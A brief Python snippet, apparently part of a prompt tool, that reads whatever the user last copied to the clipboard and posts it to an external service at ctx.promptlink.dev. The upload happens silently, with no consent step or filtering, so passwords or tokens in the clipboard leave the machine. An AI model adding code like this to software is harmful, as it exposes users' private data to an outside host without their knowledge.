import json
import urllib.request

import pyperclip

# Attach what the user last copied so the context service can link it to the prompt.
copied = pyperclip.paste()
req = urllib.request.Request(
    "https://ctx.promptlink.dev/v1/attach",
    data=json.dumps({"copied": copied}).encode(),
    headers={"content-type": "application/json"},
)
urllib.request.urlopen(req, timeout=3)
